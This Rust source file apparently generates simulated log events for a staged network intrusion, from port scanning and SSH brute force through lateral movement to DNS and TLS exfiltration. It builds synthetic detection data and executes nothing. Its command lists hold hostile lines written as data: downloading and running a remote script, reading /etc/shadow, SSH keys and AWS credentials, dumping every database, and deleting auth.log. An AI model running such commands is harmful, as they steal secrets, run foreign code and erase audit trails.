//! One intruder from the first port scan to the stolen data: eight steps over four hosts.

use serde_json::json;

use super::cast::{ADMIN, ATTACKER, DATABASE, FILES, GATEWAY, PEOPLE, RESOLVER, VICTIM, WEB};
use super::story::Story;
use super::{ssh, web};

/// When a step begins, how long it takes, both in seconds, and how often it does its thing.
pub(super) struct Step {
    start: f64,
    span: f64,
    count: u32,
}

/// The eight steps.
pub(super) struct Plan {
    port_scan: Step,
    brute_force: Step,
    injection: Step,
    commands: Step,
    lateral: Step,
    harvest: Step,
    api: Step,
    exfiltration: Step,
}

/// As such an intrusion goes: 47 ports/s, 156 attempts in 2 min, 12 commands/min, 45 requests/s,
/// 2.3 GB.
pub(super) const REAL: Plan = Plan {
    port_scan: Step { start: 0.0, span: 20.0, count: 940 },
    brute_force: Step { start: 30.0, span: 120.0, count: 156 },
    injection: Step { start: 60.0, span: 60.0, count: 60 },
    commands: Step { start: 165.0, span: 180.0, count: 36 },
    lateral: Step { start: 360.0, span: 60.0, count: 4 },
    harvest: Step { start: 430.0, span: 60.0, count: 8 },
    api: Step { start: 500.0, span: 20.0, count: 900 },
    exfiltration: Step { start: 530.0, span: 120.0, count: 8 },
};

/// The same told in little more than a minute, long enough to tell how the intruder works.
pub(super) const SHORT: Plan = Plan {
    port_scan: Step { start: 2.0, span: 4.0, count: 188 },
    brute_force: Step { start: 6.5, span: 9.0, count: 156 },
    injection: Step { start: 9.0, span: 5.0, count: 20 },
    commands: Step { start: 17.0, span: 7.0, count: 12 },
    lateral: Step { start: 24.5, span: 4.0, count: 4 },
    harvest: Step { start: 29.0, span: 3.0, count: 8 },
    api: Step { start: 44.0, span: 2.0, count: 90 },
    exfiltration: Step { start: 58.0, span: 8.0, count: 8 },
};

/// What leaves the site, in bytes.
const STOLEN: u64 = 2_300_000_000;

const COMMANDS: [&str; 12] = [
    "/usr/bin/id",
    "/usr/bin/uname -a",
    "/usr/bin/cat /etc/os-release",
    "/usr/bin/ss -tlnp",
    "/usr/sbin/ip addr",
    "/usr/bin/ps aux",
    "/usr/bin/crontab -l",
    "/usr/bin/find / -perm -4000 -type f",
    "/usr/bin/curl -s http://203.0.113.66/stage2.sh -o /tmp/.cache.sh",
    "/usr/bin/chmod +x /tmp/.cache.sh",
    "/usr/bin/bash /tmp/.cache.sh",
    "/usr/bin/nmap -sT -p 22,3306,5432 192.0.2.0/24",
];

const HARVEST: [&str; 8] = [
    "/usr/bin/cat /etc/shadow",
    "/usr/bin/cat /home/deploy/.ssh/id_ed25519",
    "/usr/bin/find /home -name id_rsa",
    "/usr/bin/grep -ri password /etc /var/www",
    "/usr/bin/cat /var/www/app/.env",
    "/usr/bin/cp /etc/shadow /tmp/.s",
    "/usr/bin/cat /root/.aws/credentials",
    "/usr/bin/mysqldump --all-databases --result-file=/tmp/.d.sql",
];

impl Step {
    /// The moments at which it does its thing.
    fn moments(&self) -> impl Iterator<Item = f64> + use<> {
        let (start, span, count) = (self.start, self.span, self.count);
        (0..count).map(move |number| start + span * f64::from(number) / f64::from(count))
    }
}

/// Tells the intrusion by `plan`.
pub(super) fn tell(story: &mut Story, plan: &Plan) {
    scan_ports(story, &plan.port_scan);

    let Step { start, span, count } = plan.brute_force;
    ssh::guess(story, start, span, count, WEB.0, ATTACKER);
    ssh::password_login(story, start + span + 0.5, WEB.0, VICTIM, ATTACKER);

    let Step { start, span, count } = plan.injection;
    web::inject(story, start, span, count);
    alert(
        story,
        start + 1.0,
        WEB.1,
        443,
        "SIM SQL injection attempt in URI",
        "Web Application Attack",
    );

    for (at, command) in plan.commands.moments().zip(COMMANDS.iter().cycle()) {
        let pause = story.random.fraction();
        story.sudo(at + pause, WEB.0, VICTIM, command);
    }
    ssh::new_account(story, plan.commands.start + plan.commands.span * 0.8);

    move_on(story, &plan.lateral);

    for (number, (at, command)) in plan.harvest.moments().zip(HARVEST).enumerate() {
        let host = if number % 2 == 0 { WEB.0 } else { DATABASE.0 };
        story.sudo(at, host, VICTIM, command);
    }

    let Step { start, span, count } = plan.api;
    web::drain_api(story, start, span, count);

    take_away(story, &plan.exfiltration);
}

fn scan_ports(story: &mut Story, step: &Step) {
    let targets = [WEB.1, DATABASE.1, FILES.1, ADMIN.1, GATEWAY.1];
    for (number, at) in (0_u64..).zip(step.moments()) {
        // Each port of each host once, in an order that jumps.
        let port = 1 + number * 211 % 1_024;
        let target = targets.get(number as usize % targets.len()).copied().unwrap_or_default();
        story.blocked(at, ATTACKER, target, port);
    }
    alert(
        story,
        step.start + 1.0,
        WEB.1,
        22,
        "SIM scan of many TCP ports",
        "Attempted Information Leak",
    );
}

fn move_on(story: &mut Story, step: &Step) {
    let [.., deploy] = PEOPLE;
    let hosts = [DATABASE, FILES, ADMIN, GATEWAY];
    for (at, (host, address)) in step.moments().zip(hosts) {
        // The account taken over is tried from the host taken over: a wrong password, then its key.
        ssh::failure(story, at, host, WEB.1, (VICTIM, true));
        ssh::key_login(story, at + step.span * 0.05, host, &deploy, WEB.1);
        story.sudo(at + step.span * 0.1, host, VICTIM, "/usr/bin/id");
        let flow = flow(story, (WEB.1, address, 22), 9_214, 11_870);
        story.eve(at + step.span * 0.12, flow);
    }
}

fn take_away(story: &mut Story, step: &Step) {
    for at in step.moments() {
        let label = story.random.hex(48);
        let (id, port) = (story.random.between(1, 65_535), story.random.client_port());
        story.eve(
            at,
            json!({
                "event_type": "dns", "proto": "UDP",
                "src_ip": FILES.1, "src_port": port,
                "dest_ip": RESOLVER, "dest_port": 53,
                "dns": { "type": "query", "id": id, "rrname": format!("{label}.sync.example.com"),
                         "rrtype": "TXT", "tx_id": 0, "opcode": 0 },
            }),
        );
        let flow = flow(story, (FILES.1, ATTACKER, 443), STOLEN / u64::from(step.count), 1_906_112);
        story.eve(at + step.span / f64::from(step.count) * 0.9, flow);
    }
    story.sudo(step.start + step.span, FILES.0, VICTIM, "/usr/bin/rm -f /var/log/auth.log");
}

fn flow(
    story: &mut Story,
    (source, target, port): (&str, &str, u16),
    sent: u64,
    received: u64,
) -> serde_json::Value {
    json!({
        "event_type": "flow", "proto": "TCP", "app_proto": if port == 22 { "ssh" } else { "tls" },
        "src_ip": source, "src_port": story.random.client_port(),
        "dest_ip": target, "dest_port": port,
        "flow": {
            "pkts_toserver": sent / 1_400 + 6, "pkts_toclient": received / 1_400 + 6,
            "bytes_toserver": sent, "bytes_toclient": received,
            "state": "closed", "reason": "timeout", "alerted": false,
        },
    })
}

fn alert(
    story: &mut Story,
    seconds: f64,
    target: &str,
    port: u16,
    signature: &str,
    category: &str,
) {
    let source_port = story.random.client_port();
    story.eve(
        seconds,
        json!({
            "event_type": "alert", "proto": "TCP",
            "src_ip": ATTACKER, "src_port": source_port, "dest_ip": target, "dest_port": port,
            "alert": {
                "action": "allowed", "gid": 1, "signature_id": 9_000_001, "rev": 1,
                "signature": signature, "category": category, "severity": 2,
            },
        }),
    );
}
